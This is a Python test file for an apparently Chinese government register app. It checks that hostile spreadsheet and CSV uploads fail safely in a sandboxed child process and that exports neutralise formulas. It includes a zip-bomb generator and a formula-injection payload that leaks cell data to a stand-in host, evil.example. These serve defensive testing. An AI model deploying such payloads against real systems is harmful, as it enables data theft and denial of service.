"""Hostile spreadsheets: each gets a clear Chinese message, nothing is written, and the server
process survives (the parsing runs in a child process under memory and time limits)."""

from __future__ import annotations

import io
import os
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook

from conftest import Org
from fazhi.core.errors import ImportFailed
from fazhi.core.importers import UNIT_COLUMNS, units_import
from fazhi.core.models import Unit
from fazhi.core.sandbox import SandboxFailed, run_limited
from fazhi.core.tabular import parse_date, read_table


def _xlsx(cells: dict[str, Any]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    for ref, value in cells.items():
        ws[ref] = value
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """A valid xlsx whose only sheet inflates from under 1 MB to about 300 MB of XML (6 million rows)."""
    base = _xlsx({"A1": "单位编码"})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
                with dst.open(item.filename, "w", force_zip64=True) as f:
                    f.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
                    chunk = row * 10000
                    for _ in range(600):
                        f.write(chunk)
                    f.write(b"</sheetData></worksheet>")
            else:
                dst.writestr(item, src.read(item.filename))
    return out.getvalue()


HOSTILE = {
    # calamine gives up on the first (a panic in the child) and would allocate 1.9 GB for the second
    "far_cell": (lambda: _xlsx({"XFD1048576": 1}), "units.xlsx", "行列范围"),
    "last_row": (lambda: _xlsx({"A1048576": 1}), "units.xlsx", "超过 200000 行"),
    "text_as_xlsx": (lambda: "单位编码,单位名称\n".encode(), "units.xlsx", "扩展名与内容不符"),
    "truncated_xlsx": (lambda: _xlsx({"A1": "单位编码"})[:600], "units.xlsx", "文件可能已损坏"),
    "long_csv_cell": (lambda: ("单位编码,单位名称\nX," + "长" * 140_000 + "\n").encode(), "units.csv", "第2行"),
    "nul_csv": (lambda: b"\xef\xbb\xbf\xe5\x8d\x95\x00,x\n", "units.csv", "第1行"),
    "wide_csv": (lambda: (",".join(UNIT_COLUMNS + ["x"] * 300) + "\n" + ",".join(["v"] * 306) + "\n").encode(), "units.csv", "超过 200 列"),
    "gbk_garbage": (lambda: bytes(range(128, 256)) * 50, "units.csv", "无法识别文件编码"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_gets_a_chinese_message_and_writes_nothing(org: Org, name: str) -> None:
    make, filename, message = HOSTILE[name]
    units = Unit.objects.count()
    with pytest.raises(ImportFailed) as caught:
        units_import(data=make(), filename=filename, actor=org.admin)
    text = "；".join(caught.value.problems)
    assert message in text, text
    assert Unit.objects.count() == units
    assert os.getpid() == os.getpid()  # still here: the child took the blow


def test_a_zip_bomb_stops_at_the_limits_of_the_child(settings: Any) -> None:
    settings.FAZHI_PARSE_MEMORY_MB = 512
    settings.FAZHI_PARSE_SECONDS = 20
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(ImportFailed) as caught:
        read_table(bomb, "units.xlsx", required=["单位编码"])
    assert "超出了解析的" in caught.value.problems[0]


def test_the_child_is_killed_at_its_time_limit() -> None:
    # six million rows take calamine far more than a second, whatever the machine's load
    with pytest.raises(SandboxFailed) as caught:
        run_limited("calamine_grid", _zip_bomb(), memory_mb=8192, seconds=1)
    assert caught.value.reason == "time"


def test_a_good_file_still_reads_through_the_child() -> None:
    table = read_table(_xlsx({"A1": "单位编码", "B1": "日期", "A2": "D-01", "B2": "2026-01-05"}), "t.xlsx", required=["单位编码"])
    assert table.rows == [(2, {"单位编码": "D-01", "日期": "2026-01-05"})]


@pytest.mark.parametrize("typed", ["0001-01-01", "2207-03-01", "1900/1/1"])
def test_dates_outside_any_record_are_not_dates(typed: str) -> None:
    assert parse_date(typed) is None
    assert parse_date("2026年3月1日") is not None


def test_an_exported_ledger_never_carries_a_formula_from_a_typed_cell(org: Org, make_case: Any) -> None:
    from openpyxl import load_workbook

    from fazhi.registers.framework.ledger import ledger_export, ledger_import
    from fazhi.registers.framework.registry import register_get
    from fazhi.registers.reconsideration.models import ReconsiderationCase

    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    make_case(applicant_name=typed, disputed_act="-2+3 @SUM(1)")
    reg = register_get("reconsideration")
    data = ledger_export(reg, ReconsiderationCase.objects.order_by("pk"))
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.value.startswith(("=", "-"))]
    assert {c.value for c in cells} >= {typed, "-2+3 @SUM(1)"}
    assert all(c.data_type == "s" for c in cells)  # text, as typed: nothing a spreadsheet would evaluate
    result = ledger_import(reg=reg, data=data, filename="x.xlsx", cli=True)
    assert (result.created, result.updated) == (0, 0)  # and it reads back unchanged
